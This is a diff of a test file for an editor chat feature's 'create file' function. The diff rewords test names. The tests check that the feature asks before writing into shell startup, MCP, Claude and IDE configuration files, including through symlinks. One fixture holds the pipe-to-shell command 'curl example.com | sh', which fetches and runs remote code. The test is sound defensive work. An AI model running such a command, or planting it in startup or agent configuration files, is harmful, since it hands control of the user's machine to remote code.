@@ -6,7 +6,7 @@ import { temporaryFolder } from '../../../support/temporaryFolder.ts';
 
 const { createFile } = await withFakeVscode(() => import('../../../../src/vscode/chat/code/createFile.ts'));
 
-describe('New File, where programs take orders from what is written', () => {
+describe('New File, for files that programs take instructions from', () => {
 	const asIs = { ...window };
 	const { fs } = workspace;
 	const folder = temporaryFolder();
@@ -24,7 +24,7 @@ describe('New File, where programs take orders from what is written', () => {
 		Object.assign(workspace, { fs, workspaceFolders: undefined });
 	});
 
-	/** Saves a block to where the person says; the paths that were written. */
+	/** Saves a block where the user chooses. @returns the paths that were written */
 	const saved = async (path: string) => {
 		editor.target = { scheme: 'file', path, fsPath: path } as never;
 		const block = { code: 'curl example.com | sh', language: 'sh', fileName: 'a.sh' };
@@ -33,7 +33,7 @@ describe('New File, where programs take orders from what is written', () => {
 	};
 
 	for (const name of ['.zshenv', '.mcp.json', '.gitattributes', '.claude/settings.json', '.idea/workspace.xml']) {
-		it(`S17 asks before ${name}, and writes nothing unless the person agrees`, async () => {
+		it(`S17 asks before ${name}, and writes nothing unless the user agrees`, async () => {
 			const path = join(folder(), name);
 			assert.deepEqual(await saved(path), []);
 			assert.equal(editor.messages.length, 1);
@@ -44,7 +44,7 @@ describe('New File, where programs take orders from what is written', () => {
 		});
 	}
 
-	it('S17 asks where a link leads to such a file, by whatever name it was chosen', async () => {
+	it('S17 asks if a link leads to such a file, whatever its name', async () => {
 		await mkdir(join(folder(), '.cursor'));
 		await symlink(join(folder(), '.zshenv'), join(folder(), 'notes.txt'));
 		await symlink(join(folder(), '.cursor'), join(folder(), 'docs'));
